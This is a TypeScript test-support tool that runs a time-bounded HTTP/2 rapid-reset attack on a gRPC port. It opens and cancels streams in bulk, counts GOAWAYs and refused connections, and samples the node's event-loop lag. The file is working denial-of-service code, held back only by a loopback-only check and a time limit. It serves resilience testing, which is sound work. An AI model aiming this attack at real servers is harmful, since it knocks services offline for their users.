// HTTP/2 rapid reset against a guest port, bounded in time and aimed at loopback: each of
// `connections` connections opens gRPC streams and cancels each at once (HEADERS + RST_STREAM),
// as fast as it can, and reconnects whenever the node closes it. Counts what the node did:
// streams sent, GOAWAYs by code, connections opened and those closed before they carried a
// stream. Binding `localAddress` (another 127.x address) makes the attacker a source apart from
// the normal guests on 127.0.0.1. A developer tool as well as test support:
//   node test/dist/support/rapid-reset.js HOST:PORT --connections 4 --seconds 3 \
//     --local 127.0.0.2 --ops http://OPS
// prints the counts as JSON, and with --ops the node's largest event-loop lag in the seconds
// before the attack and during it, and its epoch before and after. Loopback targets only.

import { type ClientHttp2Session, constants as h2, connect as h2connect } from "node:http2";
import { connect as netConnect } from "node:net";
import { parseArgs } from "node:util";
import { errorCodeName } from "../hostile/attacks/h2-frames.js";
import { runIfMain } from "./run-main.js";

export interface RapidResetOptions {
  readonly target: string;
  readonly connections: number;
  readonly seconds: number;
  readonly localAddress?: string;
  /** Streams opened and cancelled per connection per turn of the event loop. */
  readonly batch?: number;
}

export interface RapidResetResult {
  streams: number;
  connectionsOpened: number;
  /** Connections the node closed before it sent its HTTP/2 SETTINGS (refused at accept). */
  connectionsRefused: number;
  goaways: Record<string, number>;
}

const HEADERS = {
  ":method": "POST",
  ":path": "/vgpu.v1.Guest/Session",
  "content-type": "application/grpc",
  te: "trailers",
};

export async function rapidReset(options: RapidResetOptions): Promise<RapidResetResult> {
  const host = options.target.slice(0, options.target.lastIndexOf(":"));
  const port = Number(options.target.slice(options.target.lastIndexOf(":") + 1));
  if (!host.startsWith("127.") && host !== "localhost" && host !== "[::1]") {
    throw new Error(`rapid reset aims at loopback only, not ${host}`);
  }
  const result: RapidResetResult = {
    streams: 0,
    connectionsOpened: 0,
    connectionsRefused: 0,
    goaways: {},
  };
  const endMs = performance.now() + options.seconds * 1000;
  const batch = options.batch ?? 100;
  const codeName = errorCodeName;

  const one = () =>
    new Promise<void>((resolve) => {
      const run = () => {
        if (performance.now() >= endMs) {
          resolve();
          return;
        }
        result.connectionsOpened++;
        let greeted = false;
        let settled = false;
        const session: ClientHttp2Session = h2connect(`http://${host}:${port}`, {
          createConnection: () =>
            netConnect({
              host: host.replace(/^\[(.*)\]$/, "$1"),
              port,
              ...(options.localAddress ? { localAddress: options.localAddress } : {}),
            }),
        });
        session.on("error", () => undefined);
        session.once("remoteSettings", () => {
          greeted = true;
        });
        session.on("goaway", (code) => {
          const name = codeName(code);
          result.goaways[name] = (result.goaways[name] ?? 0) + 1;
        });
        const again = () => {
          if (settled) return;
          settled = true;
          if (!greeted) result.connectionsRefused++;
          session.destroy();
          setImmediate(run);
        };
        session.on("close", again);
        const pump = () => {
          if (session.destroyed || session.closed || settled) return;
          if (performance.now() >= endMs) {
            settled = true;
            session.destroy();
            resolve();
            return;
          }
          for (let i = 0; i < batch && !session.destroyed; i++) {
            try {
              const req = session.request(HEADERS, { endStream: false });
              req.on("error", () => undefined);
              req.close(h2.NGHTTP2_CANCEL);
              result.streams++;
            } catch {
              break; // the session is going away
            }
          }
          setImmediate(pump);
        };
        session.on("connect", pump);
      };
      run();
    });
  await Promise.all(Array.from({ length: options.connections }, one));
  return result;
}

/** The largest event-loop lag the node reports (prom-client resets it at each scrape). */
async function lagMaxSeconds(ops: string): Promise<number> {
  const text = await (await fetch(`${ops}/metrics`)).text();
  const m = /^nodejs_eventloop_lag_max_seconds (\S+)$/m.exec(text);
  return m ? Number(m[1]) : Number.NaN;
}

async function epochOf(ops: string): Promise<number> {
  return ((await (await fetch(`${ops}/v1/status`)).json()) as { epoch: number }).epoch;
}

/**
 * The CLI: attacks, and with --ops also samples the node's event-loop lag every 250 ms for
 * --seconds before the attack and during it, and reads its epoch before and after.
 */
async function main(argv: string[]): Promise<number> {
  const { values, positionals } = parseArgs({
    args: argv,
    allowPositionals: true,
    options: {
      connections: { type: "string", default: "4" },
      seconds: { type: "string", default: "3" },
      local: { type: "string" },
      ops: { type: "string" },
    },
  });
  const target = positionals[0];
  if (target === undefined) {
    console.error(
      "usage: rapid-reset.js HOST:PORT [--connections 4] [--seconds 3] [--local 127.0.0.2] [--ops http://HOST:PORT]",
    );
    return 2;
  }
  const seconds = Number(values.seconds);
  const ops = values.ops;
  const sample = async (untilMs: number) => {
    let max = 0;
    while (ops !== undefined && performance.now() < untilMs) {
      await new Promise((r) => setTimeout(r, 250));
      max = Math.max(max, await lagMaxSeconds(ops));
    }
    return max;
  };
  const epochBefore = ops ? await epochOf(ops) : undefined;
  if (ops) await lagMaxSeconds(ops); // resets the node's window
  const lagBefore = await sample(performance.now() + seconds * 1000);
  const attack = rapidReset({
    target,
    connections: Number(values.connections),
    seconds,
    ...(values.local ? { localAddress: values.local } : {}),
  });
  const lagDuring = await sample(performance.now() + seconds * 1000);
  const result = await attack;
  const epochAfter = ops ? await epochOf(ops) : undefined;
  console.log(
    JSON.stringify({
      ...result,
      lagMaxSecondsBefore: lagBefore,
      lagMaxSecondsDuring: lagDuring,
      epochBefore,
      epochAfter,
    }),
  );
  return 0;
}

runIfMain(import.meta.url, main);
